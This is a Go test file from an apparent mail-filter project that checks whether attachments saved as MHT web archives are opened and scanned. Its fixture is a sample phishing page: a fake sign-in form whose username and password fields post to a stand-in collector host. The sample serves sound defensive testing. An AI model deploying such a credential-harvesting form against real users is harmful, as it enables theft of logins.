package unpack

import (
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/internal/cryptkeys"
)

// phishMHT is a web archive as Word and kits write one: no header before
// MIME-Version (no From or Date, so it reads as no mail), the page
// quoted-printable, a picture beside it.
const phishMHT = "MIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"----B\"\r\n\r\n" +
	"------B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Location: https://login.example.net/\r\n\r\n" +
	"<html><body><form action=3D\"https://collect.example.net/p\" method=3D\"post\"><input name=3D\"u\"><input type=3D\"password\" name=3D\"p\"><button>Sign in</button></form></body></html>\r\n" +
	"------B\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-Location: https://login.example.net/logo.png\r\n\r\niVBORw0KGgo=\r\n------B--\r\n"

func TestSavedPage(t *testing.T) {
	for _, c := range []struct {
		name, file, declared, content string
		opened                        bool
	}{
		{"named .mht", "Invoice.mht", "application/octet-stream", phishMHT, true},
		{"named .MHTML", "Invoice.MHTML", "", phishMHT, true},
		{"declared multipart/related", "page", "multipart/related", phishMHT, true},
		{"declared x-mimearchive", "page.bin", "application/x-mimearchive", phishMHT, true},
		{"HTML named .mht", "a.mht", "application/octet-stream", "<html><body>hi</body></html>", false},
		{"text named .mht", "notes.mht", "application/octet-stream", "Subject line of my notes\r\nand more text\r\n", false},
		{"web archive named .txt", "page.txt", "text/plain", phishMHT, false},
		{"UTF-8 byte order mark", "Invoice.mht", "application/octet-stream", "\xef\xbb\xbf" + phishMHT, true},
		{"UTF-16 with its byte order mark", "Invoice.mht", "application/octet-stream", "\xff\xfe" + string(cryptkeys.UTF16LE(phishMHT)), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			m := mail("x", "hi", c.file, []byte(c.content))
			m.Parts[1].DeclaredType = c.declared
			expand(t, m, Options{})
			var page string
			for _, p := range m.Parts {
				if strings.HasPrefix(p.Path, "2/") && p.DeclaredType == "text/html" {
					page = string(p.Content)
				}
			}
			switch {
			case c.opened && !strings.Contains(page, `type="password"`):
				t.Errorf("the page inside was not read; parts:\n%s", dump(m))
			case !c.opened && len(m.Parts) != 2:
				t.Errorf("opened as a web archive:\n%s", dump(m))
			}
		})
	}
}
